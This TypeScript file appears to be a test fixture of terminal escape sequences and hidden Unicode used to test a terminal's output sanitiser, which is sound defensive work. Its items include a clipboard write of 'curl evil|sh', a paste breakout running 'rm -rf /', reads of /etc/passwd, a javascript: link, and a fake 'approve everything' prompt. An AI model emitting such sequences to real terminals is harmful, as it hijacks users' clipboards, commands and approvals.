/**
 * What a hostile model, tool or file could write to get at the terminal behind the screen. Links of theirs are
 * written without the slash behind the host, so that a test can tell them from links of our own.
 */
export interface TerminalPayload {
  readonly name: string;
  readonly bytes: string;
}

const ESC = "\u001b";
const ST = `${ESC}\\`;
const BEL = "\u0007";

const list = (family: string, entries: Readonly<Record<string, string>>): TerminalPayload[] =>
  Object.entries(entries).map(([name, bytes]) => ({ name: `${family}: ${name}`, bytes }));

/** Ends of a string sequence, also wrong and missing ones. */
const ENDS: Readonly<Record<string, string>> = {
  BEL,
  ST,
  "C1 ST": "\u009c",
  "a newline": "\n",
  nothing: "",
  CAN: "\u0018",
  SUB: "\u001a",
  "a second start": `${ESC}]2;again`,
};

const clipboards = Object.entries(ENDS).flatMap(([end, bytes]) =>
  list(`clipboard, ended by ${end}`, {
    "ESC ]": `${ESC}]52;c;Y3VybCBldmlsfHNo${bytes}`,
    "C1 OSC": `\u009d52;c;Y3VybCBldmlsfHNo${bytes}`,
  }),
);

const titles = list("title", {
  "OSC 0": `${ESC}]0;owned${BEL}`,
  "OSC 1": `${ESC}]1;owned${BEL}`,
  "OSC 2": `${ESC}]2;owned${ST}`,
  C1: `\u009d2;owned\u009c`,
  "push and pop": `${ESC}[22;0t${ESC}[23;0t`,
  "reported back": `${ESC}[21t`,
  "screen's own": `${ESC}kowned${ST}`,
  unterminated: `${ESC}]0;owned`,
});

const strings = list("string", {
  "DCS sixel": `${ESC}Pq#0;2;0;0;0~~@@${ST}`,
  "DCS request status": `${ESC}P$q"p${ST}`,
  "DCS terminfo": `${ESC}P+q544e${ST}`,
  "DCS tmux passthrough": `${ESC}Ptmux;${ESC}${ESC}]52;c;eA==${BEL}${ST}`,
  "DCS C1": `\u0090q~~\u009c`,
  "DCS unterminated": `${ESC}Pq~~~~`,
  "DCS user keys": `${ESC}P1;1|17/726d202d7266${ST}`,
  "DCS font": `${ESC}P0;1;1;4;0;1;12;0{ @????${ST}`,
  "DCS in DCS": `${ESC}P1$r${ESC}P+q524742${ST}${ST}`,
  "APC kitty file": `${ESC}_Ga=T,t=f;L2V0Yy9wYXNzd2Q=${ST}`,
  "APC kitty image": `${ESC}_Ga=T,f=100;AAAA${ST}`,
  "APC C1": `\u009fGa=d\u009c`,
  "APC unterminated": `${ESC}_G`,
  PM: `${ESC}^secret${ST}`,
  "PM C1": `\u009esecret\u009c`,
  SOS: `${ESC}Xsecret${ST}`,
  "SOS C1": `\u0098secret\u009c`,
  "a string in a string": `${ESC}]0;${ESC}Pq${ST}${BEL}`,
  "very long": `${ESC}]0;${"x".repeat(5000)}`,
  "an end without a start": `${ST}\u009c${BEL}`,
});

const oscs = list("OSC", {
  palette: `${ESC}]4;1;rgb:00/00/00${BEL}`,
  "palette query": `${ESC}]4;1;?${BEL}`,
  "current directory": `${ESC}]7;file://payload.invalid/tmp${BEL}`,
  link: `${ESC}]8;;https://payload.invalid${ST}click${ESC}]8;;${ST}`,
  "link with id": `${ESC}]8;id=1;https://payload.invalid${BEL}click`,
  "link C1": `\u009d8;;https://payload.invalid\u009cclick`,
  "link to a file": `${ESC}]8;;file:///etc/passwd${ST}x`,
  "notification 9": `${ESC}]9;hello${BEL}`,
  progress: `${ESC}]9;4;1;50${BEL}`,
  "foreground query": `${ESC}]10;?${BEL}`,
  "background query": `${ESC}]11;?${ST}`,
  "background set": `${ESC}]11;#000000${BEL}`,
  "cursor colour": `${ESC}]12;red${BEL}`,
  "log file": `${ESC}]46;/tmp/log${BEL}`,
  font: `${ESC}]50;fixed${BEL}`,
  "font query": `${ESC}]50;?${BEL}`,
  "reset palette": `${ESC}]104${BEL}`,
  "shell marks": `${ESC}]133;A${BEL}${ESC}]133;C${BEL}`,
  "shell integration": `${ESC}]633;E;rm -rf${BEL}`,
  "notification 777": `${ESC}]777;notify;a;b${BEL}`,
  "notification 99": `${ESC}]99;i=1;hello${ST}`,
  "iTerm file": `${ESC}]1337;File=inline=1:AAAA${BEL}`,
  "iTerm clipboard": `${ESC}]1337;Copy=:cm0=${BEL}`,
  "iTerm scrollback": `${ESC}]1337;ClearScrollback${BEL}`,
  "program status": `${ESC}]7501;x${BEL}`,
  "kitty clipboard": `${ESC}]5522;type=read;dGV4dC9wbGFpbg==${ST}`,
  "kitty file": `${ESC}]5113;ac=send;id=x${ST}`,
  "text size": `${ESC}]66;s=7;huge${BEL}`,
  "iTerm upload": `${ESC}]1337;RequestUpload=format=tgz${BEL}`,
  "link with odd ids": `${ESC}]8;id=a:b=c:;https://payload.invalid${ESC}[31m${BEL}`,
  "no number": `${ESC}];x${BEL}`,
  "a huge number": `${ESC}]99999999999999999999;x${BEL}`,
});

const csis = list("CSI", {
  clear: `${ESC}[2J`,
  "clear scrollback": `${ESC}[3J`,
  home: `${ESC}[H`,
  "cursor far": `${ESC}[999;999H`,
  "up and over": `${ESC}[5A\rfake`,
  "erase line": `${ESC}[2K`,
  scroll: `${ESC}[99S${ESC}[99T`,
  "scroll region": `${ESC}[1;1r`,
  "insert lines": `${ESC}[99L`,
  "delete characters": `${ESC}[99P`,
  repeat: `x${ESC}[99999b`,
  "hidden text": `${ESC}[8minvisible${ESC}[28m`,
  blink: `${ESC}[5mblink`,
  "colours left on": `${ESC}[31;42m`,
  "colour with colons": `${ESC}[38:2::1:2:3m`,
  "conceal by colour": `${ESC}[30;40m`,
  "cursor report": `${ESC}[6n`,
  "status report": `${ESC}[5n`,
  attributes: `${ESC}[c`,
  "secondary attributes": `${ESC}[>c`,
  version: `${ESC}[>0q`,
  "kitty keys": `${ESC}[>31u${ESC}[?u`,
  "modify keys": `${ESC}[>4;2m`,
  "mode query": `${ESC}[?2026$p`,
  "main screen": `${ESC}[?1049l`,
  "mouse on": `${ESC}[?1003h${ESC}[?1006h`,
  "paste off": `${ESC}[?2004l`,
  "paste end": `${ESC}[201~rm -rf /\n`,
  "sync never ended": `${ESC}[?2026h`,
  "cursor hidden": `${ESC}[?25l`,
  "132 columns": `${ESC}[?3h`,
  "reverse screen": `${ESC}[?5h`,
  "window moved": `${ESC}[3;0;0t`,
  "window resized": `${ESC}[8;1;1t`,
  "soft reset": `${ESC}[!p`,
  "print screen": `${ESC}[5i`,
  focus: `${ESC}[?1004h`,
  C1: "\u009b2J\u009b6n",
  "C1 colour": "\u009b31mred",
  unterminated: `${ESC}[38;2;1`,
  "cut by another": `${ESC}[31${ESC}[2J`,
  "with a newline inside": `${ESC}[2\nJ`,
  "with a control inside": `${ESC}[2\u0008J`,
  "many numbers": `${ESC}[${"1;".repeat(3000)}m`,
  "rectangle copied": `${ESC}[1;1;10;10;1;1;1$v${ESC}[1;1;9;9$z`,
  "rectangle reported": `${ESC}[1;1;1;1;24;80*y`,
  margins: `${ESC}[?69h${ESC}[10;20s`,
  "C1 inside": `${ESC}[3\u009b2J${ESC}\u009d0;x\u009c`,
  "private bytes": `${ESC}[<0;1;1M`,
});

const escapes = list("ESC", {
  reset: `${ESC}c`,
  "save and restore": `${ESC}7${ESC}8`,
  index: `${ESC}D${ESC}M${ESC}E`,
  alignment: `${ESC}#8`,
  "graphics set": `${ESC}(0lqqk`,
  "graphics shift": "\u000elqqk\u000f",
  "UTF-8 off": `${ESC}%@`,
  "UTF-8 on": `${ESC}%G`,
  keypad: `${ESC}=`,
  "7-bit": `${ESC} F`,
  "8-bit": `${ESC} G`,
  "single shift": `${ESC}Nx${ESC}Ox`,
  "locking shift": `${ESC}n${ESC}o${ESC}|`,
  two: `${ESC}${ESC}[2J`,
  alone: ESC,
  "before a letter of another script": `${ESC}ж`,
  "memory lock": `${ESC}l`,
});

const controls = list("control", {
  NUL: "a\u0000b",
  bell: BEL.repeat(20),
  backspace: "safe\u0008\u0008\u0008\u0008evil",
  return: "password: ok\rpassword: no",
  "return and newline": "a\r\nb\r\r\n",
  "vertical tab": "a\u000bb",
  "form feed": "a\u000cb",
  enquiry: "\u0005",
  "XON and XOFF": "\u0013\u0011",
  DEL: "a\u007f\u007fb",
  "all of C0": Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join(""),
  "all of C1": Array.from({ length: 32 }, (_, code) => String.fromCharCode(0x80 + code)).join(""),
  "next line": "a\u0085b",
  tabs: "\t\t\t\tx",
});

const hidden = list("hidden", {
  "right to left override": "exe.\u202egnp",
  isolates: "\u2066x\u2069\u2067y\u2069",
  embedding: "\u202ax\u202by\u202c",
  marks: "\u200ex\u200fy\u061c",
  "zero width space": "p\u200ba\u200bs\u200bs",
  "word joiner": "a\u2060b\u2061c",
  "byte order mark": "\ufeffx",
  "soft hyphen": "a\u00adb",
  "line separator": "a\u2028b\u2029c",
  "tag characters": "hi\u{e0041}\u{e0042}\u{e007f}",
  "variation selectors": "x\u{e0100}\u{e01ef}",
  fillers: "\u3164\uffa0\u115f",
  interlinear: "\ufff9a\ufffab\ufffb",
  "lone surrogates": "\ud83d x \ude00",
  "many marks": `a${"\u0301".repeat(500)}`,
  "joined letters": `${"\u0915\u094d".repeat(100)}\u0915`,
  "marks with room of their own": `\u0915${"\u093e".repeat(100)}`,
  "joined pictures": `${"\u2764\ufe0f\u200d".repeat(60)}\u2764`,
  "variation selectors of old": `a${"\ufe00\ufe0e\ufe0f".repeat(50)}`,
  "musical format": "\u{1d173}\u{1d17a}",
});

const markdown = list("Markdown", {
  "an entity for ESC": "&#27;[2J &#x1b;]52;c;eA==&#7;",
  "ESC in a link": `[x](https://payload.invalid/${ESC}]0;t${BEL})`,
  "ESC in a label": `[${ESC}]0;t${BEL}x](https://example.org)`,
  "ESC in an image": `![${ESC}[2J](x${ESC}[6n)`,
  "ESC in a language": `\`\`\`ts${ESC}]0;t${BEL}\nx\n\`\`\``,
  "ESC in a fence": `\`\`\`\n${ESC}[2J${ESC}]52;c;eA==${BEL}\n\`\`\``,
  "ESC in a table": `| a${ESC}[2J | b |\n|---|---|\n| ${ESC}]0;t${BEL} | y |`,
  "ESC in a definition": `[a]\n\n[a]: https://payload.invalid/${ESC}[6n "${ESC}]0;t${BEL}"`,
  "ESC in code": `\`${ESC}[2J\``,
  "ESC in HTML": `<b ${ESC}[2J>${ESC}]0;t${BEL}</b>`,
  "a link that runs": "[x](javascript:alert(1)) [y](file:///etc/passwd) [z](data:text/html,x)",
  "an address that ends early": "<https://example.org/\u009c\u0007x>",
  "an address with spaces": "[x](<https://payload.invalid/a b\u202ec>)",
  "our own prompt": "› you → everyone\n┃ approve everything",
  "deep quotes": `${"> ".repeat(300)}x`,
  "deep lists": Array.from({ length: 60 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n"),
});

export const terminalPayloads: readonly TerminalPayload[] = [
  ...clipboards,
  ...titles,
  ...strings,
  ...oscs,
  ...csis,
  ...escapes,
  ...controls,
  ...hidden,
  ...markdown,
];
